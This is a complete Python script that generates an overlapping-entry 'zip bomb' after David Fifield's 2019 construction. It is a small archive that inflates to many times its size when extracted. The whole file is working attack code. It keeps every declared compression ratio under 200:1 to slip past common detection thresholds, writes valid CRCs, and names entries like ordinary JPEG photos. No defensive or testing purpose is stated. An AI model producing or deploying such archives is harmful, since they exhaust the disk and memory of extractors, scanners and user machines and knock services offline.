"""Writes a "better zip bomb" (David Fifield, 2019): entries whose data overlap.

usage: make_overlap_bomb.py OUT COUNT KERNEL_MIB

COUNT entries share one deflated kernel of KERNEL_MIB MiB. Each local file
header is quoted by a stored deflate block in the data of the entry before it
(the "quoted overlap" construction), so entry i inflates to the local headers
of the entries after it followed by the kernel: the archive is about the size
of the compressed kernel and inflates to COUNT times the kernel. The kernel is
a random 4 KiB pattern repeated, which deflates to about 1/170 of its size:
every entry's declared ratio, and the archive-wide ratio of the declared sizes,
stay under 200:1. Names, sizes and CRC-32s are all valid.
"""
import random
import struct
import sys
import zlib

out, count, kernel_mib = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
pattern = random.Random(1).randbytes(4096)
kernel_output = pattern * (kernel_mib * 256)
compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
kernel = compressor.compress(kernel_output) + compressor.flush()
kernel_crc = zlib.crc32(kernel_output)
names = [b"front_full_body_%04d.jpg" % index for index in range(count)]


def local_header(name, crc, compressed, uncompressed):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, compressed, uncompressed, len(name), 0) + name


def quote(header):
    """A stored (non-final) deflate block whose contents are `header`."""
    return struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)


# From the last entry back: each entry's bytes contain the headers of those after it.
headers = [b""] * count
sizes = [(0, 0, 0)] * count  # crc, compressed, uncompressed
quoted_headers = b""  # the local headers after entry i, as entry i inflates them
compressed_after = len(kernel)  # the bytes from entry i's data to the kernel's end
for index in reversed(range(count)):
    crc = zlib.crc32(kernel_output, zlib.crc32(quoted_headers))
    uncompressed = len(quoted_headers) + len(kernel_output)
    compressed = compressed_after + (5 if index < count - 1 else 0)
    sizes[index] = (crc, compressed, uncompressed)
    headers[index] = local_header(names[index], crc, compressed, uncompressed)
    if index > 0:
        quoted_headers = headers[index] + quoted_headers
        compressed_after = compressed + len(headers[index])

with open(out, "wb") as archive:
    offsets = []
    for index in range(count):
        offsets.append(archive.tell())
        archive.write(headers[index])
        if index < count - 1:
            archive.write(quote(headers[index + 1]))
    archive.write(kernel)
    directory_offset = archive.tell()
    directory = b""
    for index in range(count):
        crc, compressed, uncompressed = sizes[index]
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, compressed, uncompressed,
            len(names[index]), 0, 0, 0, 0, 0, offsets[index],
        ) + names[index]
    archive.write(directory)
    archive.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), directory_offset, 0))
